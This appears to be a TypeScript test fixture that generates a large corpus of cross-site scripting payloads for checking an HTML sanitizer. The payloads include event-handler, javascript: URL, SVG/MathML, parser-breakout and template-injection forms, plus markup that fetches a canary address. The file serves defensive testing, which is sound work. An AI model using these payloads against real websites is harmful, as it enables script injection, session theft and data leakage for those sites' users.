/** One hostile text. Its serial stands inside it once, so that it is recognised wherever it is drawn, and when it runs. */
export type Vector = {
  readonly serial: number;
  /** The name of its form: what kind of markup it is. */
  readonly form: string;
  readonly text: string;
};

/** The attribute that every element of a vector carries: found in a page's tree, foreign text has become markup. */
export const MARKER = "data-hit";
/** The one name that vectors make in a page. */
export const HIT = "guichetHit";

/** What a vector tries to do: leaves a mark on the page, calls a listener that must hear nothing, opens a dialog. */
const DEEDS: readonly ((serial: number, canary: string) => string)[] = [
  (serial) => `window.${HIT}=${serial}`,
  (serial, canary) => `fetch('${canary}/${serial}')`,
  (serial) => `alert(${serial})`,
  (serial) => `top['${HIT}']=${serial}`,
];

type Form = readonly [name: string, write: (deed: string) => string];

/** Places where markup runs a script, each with room for what is run. */
const RUNNERS: readonly Form[] = [
  ["script", (deed) => `<script>${deed}</script>`],
  ["image error", (deed) => `<img src=x onerror="${deed}">`],
  ["svg load", (deed) => `<svg onload="${deed}"></svg>`],
  ["svg animation begins", (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`],
  ["svg animated address", (deed) => `<svg><a><animate attributeName=href values="javascript:${deed}" /><text>a`],
  ["svg set address", (deed) => `<svg><a id=s><set attributeName=href to="javascript:${deed}" /><text>a</text></a>`],
  ["svg use", (deed) => `<svg><use href="data:image/svg+xml,<svg id=x onload='${deed.replaceAll("'", "`")}'/>#x">`],
  ["svg foreign object", (deed) => `<svg><foreignObject><iframe srcdoc="<script>${deed}</script>"></foreignObject>`],
  ["math address", (deed) => `<math><mi xlink:href="javascript:${deed}">m</mi></math>`],
  ["script address", (deed) => `<a href="javascript:${deed}">a</a>`],
  ["script address in odd letters", (deed) => `<a href=" jAvA&Tab;scr&#x09;ipt&colon;${deed}">a</a>`],
  ["bare script address", (deed) => `javascript:${deed}`],
  ["bare data address", (deed) => `data:text/html,<script>${deed}</script>`],
  ["frame with a document", (deed) => `<iframe srcdoc="<script>${deed}</script>"></iframe>`],
  ["frame with a script address", (deed) => `<iframe src="javascript:${deed}"></iframe>`],
  ["object", (deed) => `<object data="javascript:${deed}"></object>`],
  ["embed", (deed) => `<embed src="javascript:${deed}">`],
  ["details", (deed) => `<details open ontoggle="${deed}">d`],
  ["focus", (deed) => `<input autofocus onfocus="${deed}">`],
  ["out of an attribute", (deed) => `" autofocus onfocus="${deed}" x="`],
  ["out of a link", (deed) => `https://a.example/"onmouseover="${deed}`],
  ["video source", (deed) => `<video><source onerror="${deed}"></video>`],
  // P159: addresses that are no href.
  ["form action", (deed) => `<form action="javascript:${deed}"><button>b</button></form>`],
  ["form action of a button", (deed) => `<form><button formaction="javascript:${deed}">b</button></form>`],
  ["poster", (deed) => `<video poster="javascript:${deed}"></video>`],
  // P158, P160: elements whose content is read by other rules.
  ["xmp", (deed) => `<xmp><p title="</xmp><img src=x onerror=${deed}>"></xmp>`],
  ["textarea", (deed) => `<textarea><p title="</textarea><img src=x onerror=${deed}>"></textarea>`],
  ["noscript", (deed) => `<noscript><p title="</noscript><img src=x onerror=${deed}>">`],
  ["title", (deed) => `<title><p title="</title><img src=x onerror=${deed}>">`],
  ["template", (deed) => `<template><img src=x onerror="${deed}"></template>`],
  [
    "style in math",
    (deed) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${deed}>">`,
  ],
  ["comment", (deed) => `<!--><img src=x onerror="${deed}">-->`],
  ["character data", (deed) => `<![CDATA[><img src=x onerror="${deed}">]]>`],
  ["tag in a tag", (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`],
  ["named element", (deed) => `<a id=${HIT} name=${HIT} title="${deed}">a</a>`],
  ["refresh", (deed) => `<meta http-equiv=refresh content="0;url=javascript:${deed}">`],
  ["template expression", (deed) => `{{constructor.constructor('${deed.replaceAll("'", "`")}')()}}`],
  ["template literal", (deed) => `\${${deed}}`],
  ["markdown link", (deed) => `[a](javascript:${deed})`],
];

/** The same markup as a neighbour: out of an attribute, nested, unclosed, in odd letters, encoded. */
const NEIGHBOURS: readonly ((vector: string) => string)[] = [
  (vector) => vector,
  (vector) => `">${vector}`,
  (vector) => `'></textarea></title></style>${vector}`,
  (vector) => vector.replace("<", "<<b>").replace(/>$/, ""),
  (vector) => vector.replace(/[a-z]+/, (name) => name.toUpperCase()),
  (vector) => vector.replaceAll("<", "&lt;").replaceAll(">", "&#62;"),
];

/** Markup that fetches without running anything. */
const FETCHERS: readonly Form[] = [
  ["image", (address) => `<img src="${address}">`],
  ["image set", (address) => `<img srcset="${address} 2x">`],
  ["imported style", (address) => `<style>@import "${address}";</style>`],
  ["style attribute", (address) => `<p style="background:url(${address})">p`],
  ["old background", (address) => `<table background="${address}"><td>t`],
  ["style sheet", (address) => `<link rel=stylesheet href="${address}">`],
  ["fetched ahead", (address) => `<link rel=prefetch href="${address}">`],
  ["fetched object", (address) => `<object data="${address}"></object>`],
  ["frame", (address) => `<iframe src="${address}"></iframe>`],
  ["base", (address) => `<base href="${address}/"><img src=x>`],
  ["refresh to elsewhere", (address) => `<meta http-equiv=refresh content="0;url=${address}">`],
  ["sound", (address) => `<audio autoplay src="${address}">`],
  ["svg image", (address) => `<svg><image href="${address}"></svg>`],
  ["markdown image", (address) => `![i](${address})`],
];

/** Every deed in every place, and the fetches, each with its neighbours: the whole corpus. */
export function makeVectors(canary: string): Vector[] {
  // Four digits each, so that no serial stands inside another.
  let serial = 1000;
  const next = (): number => serial++;
  const write = (form: string, text: (serial: number) => string): Vector[] =>
    NEIGHBOURS.map((change) => {
      const own = next();
      return { serial: own, form, text: change(mark(text(own))) };
    });
  return [
    ...RUNNERS.flatMap(([form, place]) => DEEDS.flatMap((deed) => write(form, (own) => place(deed(own, canary))))),
    ...FETCHERS.flatMap(([form, place]) => write(form, (own) => place(`${canary}/${own}`))),
  ];
}

/** Of every form a few, each with another deed and another neighbour: a slice that leaves no kind out. */
export function sliceOf(vectors: readonly Vector[], ofEachForm: number): Vector[] {
  const forms = [...Map.groupBy(vectors, ({ form }) => form).values()];
  return forms.flatMap((one, place) =>
    Array.from({ length: Math.min(ofEachForm, one.length) }, (_, n) => {
      // 5 and 7 are prime to the sizes of the groups: nothing is taken twice, and neighbours change from form to form.
      const at = (place * 7 + n * (one.length === NEIGHBOURS.length ? 5 : 7)) % one.length;
      return one.slice(at, at + 1);
    }).flat(),
  );
}

/** Every element carries the marker, so that even one that runs nothing is found. */
function mark(text: string): string {
  return text.replaceAll(/<([a-z]+)(?=[\s>])/gi, `<$1 ${MARKER}`);
}
